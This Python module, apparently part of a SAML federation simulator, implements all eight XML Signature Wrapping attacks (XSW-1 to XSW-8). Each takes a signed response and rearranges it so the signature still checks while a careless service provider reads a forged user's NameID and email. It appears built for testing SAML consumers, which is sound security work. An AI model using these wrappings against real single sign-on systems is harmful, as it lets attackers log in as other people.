"""Signature wrapping: a response that the provider signed, rebuilt so that the signature still fits what was signed
while a careless reader takes a forged person out of it (Somorovsky et al., On Breaking SAML, 2012; numbered as SAML
Raider does)."""

from __future__ import annotations

import copy
from collections.abc import Callable

from simulator.federation.xml import NAMES, Element, etree, name

SIGNATURE, ASSERTION = name("ds:Signature"), name("saml:Assertion")


def naming(element: Element, person: str) -> Element:
    """The element with another person in it."""
    for named in element.iter(name("saml:NameID")):
        named.text = person
    for attribute in element.iter(name("saml:Attribute")):
        if attribute.get("Name") == "email":
            for value in attribute:
                value.text = person
    return element


def _bare(element: Element) -> Element:
    """A copy without the signature that stands in it."""
    twin = copy.deepcopy(element)
    for signature in twin.findall(SIGNATURE):
        twin.remove(signature)
    return twin


def _forged(element: Element, person: str, *, bare: bool = False) -> Element:
    """A copy that names another person, under another id."""
    twin = naming(_bare(element) if bare else copy.deepcopy(element), person)
    twin.set("ID", "_forged")
    return twin


def _xsw1(response: Element, person: str) -> Element:
    """The signed response goes into the signature of a forged one."""
    forged = _forged(response, person)
    forged.find(SIGNATURE).append(_bare(response))
    return forged


def _xsw2(response: Element, person: str) -> Element:
    """The signed response stands before the signature in a forged one."""
    forged = _forged(response, person)
    forged.find(SIGNATURE).addprevious(_bare(response))
    return forged


def _xsw3(response: Element, person: str) -> Element:
    """A forged assertion stands before the signed one."""
    signed = response.find(ASSERTION)
    signed.addprevious(_forged(signed, person, bare=True))
    return response


def _xsw4(response: Element, person: str) -> Element:
    """The signed assertion goes into a forged one."""
    signed = response.find(ASSERTION)
    forged = _forged(signed, person, bare=True)
    response.replace(signed, forged)
    forged.append(signed)
    return response


def _xsw5(response: Element, person: str) -> Element:
    """The forged assertion keeps the signature; what was signed goes to the end of the response."""
    signed = response.find(ASSERTION)
    response.replace(signed, _forged(signed, person))
    response.append(_bare(signed))
    return response


def _xsw6(response: Element, person: str) -> Element:
    """The forged assertion keeps the signature, and what was signed goes into that."""
    signed = response.find(ASSERTION)
    forged = _forged(signed, person)
    response.replace(signed, forged)
    forged.find(SIGNATURE).append(_bare(signed))
    return response


def _xsw7(response: Element, person: str) -> Element:
    """The forged assertion hides in Extensions, where the schema allows anything."""
    signed = response.find(ASSERTION)
    extensions = etree.Element(name("samlp:Extensions"))
    extensions.append(_forged(signed, person, bare=True))
    response.find(name("samlp:Status")).addprevious(extensions)
    return response


def _xsw8(response: Element, person: str) -> Element:
    """The forged assertion keeps the signature, with what was signed in an Object of it."""
    signed = response.find(ASSERTION)
    forged = _forged(signed, person)
    response.replace(signed, forged)
    kept = etree.SubElement(forged.find(SIGNATURE), f"{{{NAMES['ds']}}}Object")
    kept.append(_bare(signed))
    return response


WRAPPINGS: dict[str, Callable[[Element, str], Element]] = {
    "xsw-1": _xsw1,
    "xsw-2": _xsw2,
    "xsw-3": _xsw3,
    "xsw-4": _xsw4,
    "xsw-5": _xsw5,
    "xsw-6": _xsw6,
    "xsw-7": _xsw7,
    "xsw-8": _xsw8,
}
"""Each takes a signed response (1 and 2: the response signed; the others: the assertion) and whom to forge."""
WHOLE_RESPONSE = ("xsw-1", "xsw-2")
